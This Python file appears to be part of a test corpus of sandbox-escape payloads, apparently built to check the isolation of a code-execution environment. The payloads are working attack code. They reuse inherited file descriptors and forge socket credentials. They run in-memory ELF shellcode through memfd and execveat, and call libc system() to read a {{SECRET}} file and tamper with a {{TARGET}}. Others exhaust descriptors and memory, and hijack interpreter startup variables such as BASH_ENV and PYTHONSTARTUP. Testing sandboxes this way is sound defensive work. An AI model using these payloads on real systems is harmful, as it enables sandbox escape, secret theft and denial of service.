"""Descriptors that were left open, passed on or made again; programs that live in memory only."""

from tests.escapes.corpus import LOOT, NATIVE, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("fd reuse", "every descriptor is read", (TRY, r"""
import os, select
for fd in range(3, 4096):
    try:
        os.fstat(fd)
    except OSError:
        continue
    attempt("link", lambda: (fd, os.readlink(f"/proc/self/fd/{fd}"), os.get_inheritable(fd)))
    for offset in (0, 4096):
        try:
            data = os.pread(fd, 4096, offset); sift(data); print(fd, data[:300])
        except OSError as error:
            print(fd, error.strerror)
    if select.select([fd], [], [], 0)[0]:
        attempt("waiting", lambda: os.read(fd, 4096)[:500])
""", "print('alive')")),
    Payload("fd reuse", "folders among the descriptors lead out", (TRY, r"""
import os, stat
for fd in range(0, 1024):
    try:
        kind = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(kind):
        attempt("list", lambda: (fd, os.listdir(fd)[:30]))
        for path in ("..{{SECRET}}", "../../../../../..{{SECRET}}", "{{SECRET}}".lstrip("/")):
            attempt("secret", lambda: os.read(os.open(path, 0, dir_fd=fd), 4096))
        attempt("target", lambda: os.write(os.open("../../../../../..{{TARGET}}", os.O_WRONLY | os.O_APPEND, dir_fd=fd),
                                           b"owned"))
        attempt("fchdir", lambda: (os.fchdir(fd), os.listdir(".."), os.chdir("/")))
""")),
    Payload("fd reuse", "dup over standard streams and the channel", (TRY, r"""
import os
for fd in range(0, 32):
    for other in range(3, 32):
        if fd != other:
            try:
                copy = os.dup(other)
                os.close(copy)
            except OSError:
                pass
spare = os.open("data.csv", os.O_RDONLY)
for fd in range(3, 32):
    if fd != spare:
        attempt("over", os.dup2, spare, fd)
""", "print('alive')", "1 + 1")),
    Payload("fd reuse", "writable descriptors of files that are not mine", (TRY, r"""
import fcntl, os, stat
for fd in range(0, 256):
    try:
        flags, info = fcntl.fcntl(fd, fcntl.F_GETFL), os.fstat(fd)
    except OSError:
        continue
    print(fd, oct(flags), oct(info.st_mode), info.st_dev, info.st_ino, info.st_size, info.st_uid)
    if flags & 3 and stat.S_ISREG(info.st_mode):
        print("writable file", fd)
    attempt("reopen", lambda: os.close(os.open(f"/proc/self/fd/{fd}", os.O_RDWR)))
    attempt("pipe size", lambda: fcntl.fcntl(fd, 1031, 1 << 20))
    attempt("seals", lambda: fcntl.fcntl(fd, fcntl.F_GET_SEALS))
""")),
    Payload("fd reuse", "sockets among them: peers, options, passed descriptors", (TRY, r"""
import array, os, socket, stat, struct
for fd in range(0, 256):
    try:
        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
            continue
    except OSError:
        continue
    s = socket.socket(fileno=os.dup(fd)); s.setblocking(False)
    print(fd, s)
    attempt("peer", s.getpeername)
    attempt("cred", lambda: struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)))
    attempt("pidfd", lambda: s.getsockopt(socket.SOL_SOCKET, 77))
    attempt("group", lambda: s.getsockopt(socket.SOL_SOCKET, 59, 64))
    attempt("receive", lambda: s.recvmsg(65536, socket.CMSG_SPACE(64 * 4), socket.MSG_PEEK))
    attempt("accept", s.accept)
    attempt("listen", s.listen)
    attempt("send", lambda: s.sendmsg([b"{}"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd] * 16))]))
    s.detach()
""", "print('alive')")),
    Payload("fd reuse", "SCM_RIGHTS and SCM_CREDENTIALS between own sockets", (LOOT, r"""
import array, os, socket, struct
left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
for fd in range(0, 64):
    try:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
        _, control, _, _ = right.recvmsg(9, 64)
        got = struct.unpack("i", control[0][2])[0]
        sift(os.pread(got, 4096, 0)); os.close(got)
    except OSError:
        pass
attempt("forge", lambda: left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("3i", 1, 0, 0))]))
attempt("forge", lambda: left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("3i", {{PID}}, 0, 0))]))
loot(os)
""")),
    Payload("fd reuse", "in-flight descriptors by the thousand", (r"""
import array, os, socket
pairs = []
try:
    for _ in range(200):
        left, right = socket.socketpair()
        left.setblocking(False)
        for _ in range(200):
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 250))])
        pairs.append((left, right))
except OSError as error:
    print(error, len(pairs))
""", "print('alive')")),
    Payload("fd reuse", "all descriptors closed", (r"""
import os
os.closerange(0, 65536)
""", "print('alive')", "1 + 1")),
    Payload("fd reuse", "closed one by one and opened again as something else", (r"""
import os
for fd in range(3, 64):
    try:
        os.close(fd)
        os.open("/dev/null", os.O_RDWR)
    except OSError:
        pass
""", r"""
import os, socket
for fd in range(0, 64):
    try:
        os.close(fd)
        socket.socketpair()
    except OSError:
        pass
""", "print('alive')")),
    Payload("fd reuse", "the limit of descriptors is reached", (r"""
import os, socket
held = []
try:
    while len(held) < 100000:
        held.append(os.open("data.csv", os.O_RDONLY))
except OSError as error:
    print(error, len(held))
""", "import pandas; pandas.read_csv('data.csv').shape", "print(open('data.csv').read(20))", "1 + 1")),
    Payload("fd reuse", "non-blocking, locked and stopped streams", (TRY, r"""
import fcntl, os, termios
for fd in range(0, 32):
    attempt("nonblock", lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND))
    attempt("lock", lambda: fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB))
    attempt("flock", lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB))
    attempt("shutdown", lambda: __import__("socket").socket(fileno=os.dup(fd)).shutdown(0))
    attempt("truncate", lambda: os.ftruncate(fd, 0))
    attempt("seek", lambda: os.lseek(fd, 10**12, 0))
""", "print('x' * 10**6)", "1 + 1")),
    Payload("fd reuse", "close_range, fdinfo and hidden numbers", (NATIVE, r"""
attempt("unshare", syscall, "close_range", 3, 0xffffffff, 2)
attempt("cloexec", syscall, "close_range", 3, 0xffffffff, 4)
for name in sorted(os.listdir("/proc/self/fdinfo")) if os.path.isdir("/proc/self/fdinfo") else []:
    attempt(name, lambda: open("/proc/self/fdinfo/" + name).read())
for fd in (255, 256, 1023, 1024, 65535, 1 << 20, 0x3fffffff):
    attempt("high", lambda: os.fstat(fd))
attempt("dup", lambda: [syscall("dup3", fd, fd + 900, 0) for fd in range(3, 9)])
""", "print('alive')")),
    Payload("fd reuse", "/dev/fd, /proc/self/fd and /dev/stdin reopen streams", (TRY, r"""
import os
for base in ("/dev/fd", "/proc/self/fd", "/proc/thread-self/fd", "/proc/{{PID}}/fd", f"/proc/{os.getppid()}/fd"):
    for n in range(0, 12):
        attempt("read", lambda: os.read(os.open(f"{base}/{n}", os.O_RDONLY | os.O_NONBLOCK), 500))
        attempt("write", lambda: os.write(os.open(f"{base}/{n}", os.O_WRONLY | os.O_NONBLOCK), b""))
        attempt("up", lambda: os.listdir(f"{base}/{n}/.."))
for path in ("/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/tty"):
    attempt(path, lambda: os.open(path, os.O_RDWR | os.O_NONBLOCK))
""")),
    Payload("fd reuse", "standard input is read and fed", (TRY, r"""
import os, select, sys
attempt("input", lambda: input("? "))
attempt("select", lambda: os.read(0, 4096) if select.select([0], [], [], 0.2)[0] else "nothing")
attempt("stdin", lambda: sys.stdin.read(100) if select.select([sys.stdin], [], [], 0.2)[0] else "nothing")
attempt("saved", lambda: (sys.__stdin__, sys.__stdout__.fileno(), sys.__stderr__.fileno()))
attempt("getpass", lambda: __import__("getpass").getpass())
""", "print('alive')")),
    Payload("memfd and exec", "memfd_create and execveat", (NATIVE, r"""
import struct
code = bytes.fromhex("488d3d3800000031f6b8020000000f0589c74881ec001000004889e6ba0010000031c00f0589c24889e6"
                     "bf01000000b8010000000f0531ffb83c0000000f05") + b"{{SECRET}}\0"
size = 120 + len(code)
elf = (b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
       + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 4096) + code)
for flags in (1, 0, 2, 0x10, 8):
    fd = attempt("memfd", syscall, "memfd_create", b"x", flags)
    if fd:
        os.write(fd, elf)
        pid = attempt("fork", os.fork)
        if pid == 0:
            attempt("execveat", syscall, "execveat", fd, b"", 0, 0, 0x1000)
            attempt("execve", lambda: os.execve(fd, ["x"], {}))
            os._exit(1)
        attempt("wait", os.waitpid, pid, 0)
""")),
    Payload("memfd and exec", "a shared library in a memfd", (NATIVE, r"""
import shutil
fd = attempt("memfd", os.memfd_create, "lib")
def library():
    for line in open("/proc/self/maps"):
        if "libc.so" in line or "libc-" in line:
            return line.split()[-1]
source = attempt("libc", library)
if fd and source:
    os.write(fd, open(source, "rb").read())
    again = attempt("load", ctypes.CDLL, f"/proc/self/fd/{fd}")
    attempt("system", lambda: again.system(b"cat {{SECRET}}; echo owned >> {{TARGET}}"))
attempt("python", lambda: os.execve(fd, ["x"], {}) if os.fork() == 0 else None)
""")),
    Payload("memfd and exec", "execveat with folders, links and empty paths", (NATIVE, r"""
argv = (ctypes.c_char_p * 3)(b"cat", b"{{SECRET}}", None)
def child(call, *args):
    pid = os.fork()
    if pid == 0:
        try:
            call(*args)
        finally:
            os._exit(1)
    return os.waitpid(pid, 0)
folder = attempt("folder", os.open, "/bin", os.O_RDONLY | os.O_DIRECTORY)
attempt("relative", child, syscall, "execveat", folder or -100, b"cat", argv, 0, 0)
attempt("absolute", child, syscall, "execveat", -100, b"/usr/bin/cat", argv, 0, 0x100)
opened = attempt("open", os.open, "/bin/cat", 0o10000000)
attempt("empty", child, syscall, "execveat", opened or 3, b"", argv, 0, 0x1000)
attempt("check", syscall, "execveat", opened or 3, b"", argv, 0, 0x1000 | 0x10000)
attempt("loader", child, os.execv, "/lib64/ld-linux-x86-64.so.2", ["ld", "/bin/cat", "{{SECRET}}"])
attempt("self", child, os.execv, "/proc/self/exe", ["python", "-c", "print(open('{{SECRET}}').read())"])
""")),
    Payload("memfd and exec", "secret memory, sealed and huge files", (NATIVE, r"""
attempt("secret", lambda: os.ftruncate(syscall("memfd_secret", 0), 1 << 40))
attempt("huge", lambda: os.ftruncate(syscall("memfd_create", b"x", 4), 1 << 30))
fd = attempt("big", os.memfd_create, "big")
written = 0
try:
    while fd and written < 64 << 30:
        written += os.write(fd, bytes(1 << 24))
except BaseException as error:
    print(error)
print(written)
""", "print('alive')")),
    Payload("memfd and exec", "shebangs, ENV files and startup files of interpreters", (TRY, r"""
import os, subprocess, sys
tmp = os.environ.get("TMPDIR", "/tmp")
open(tmp + "/usercustomize.py", "w").write("print(open('{{SECRET}}').read())")
open(tmp + "/rc", "w").write("cat {{SECRET}}; echo owned >> {{TARGET}}\n")
open(tmp + "/go", "w").write(f"#!{sys.executable}\nprint(open('{{SECRET}}').read())\n")
attempt("mode", os.chmod, tmp + "/go", 0o755)
attempt("go", lambda: subprocess.run([tmp + "/go"], capture_output=True))
attempt("python", lambda: subprocess.run([sys.executable, "-c", ""], env={"PYTHONPATH": tmp}, capture_output=True))
attempt("startup", lambda: subprocess.run([sys.executable, "-i"], env={"PYTHONSTARTUP": tmp + "/go"}, input=b"",
                                          capture_output=True))
attempt("bash", lambda: subprocess.run(["bash", "-c", "true"], env={"BASH_ENV": tmp + "/rc"}, capture_output=True))
attempt("sh", lambda: subprocess.run(["sh", "-i"], env={"ENV": tmp + "/rc"}, input=b"", capture_output=True))
""")),
]
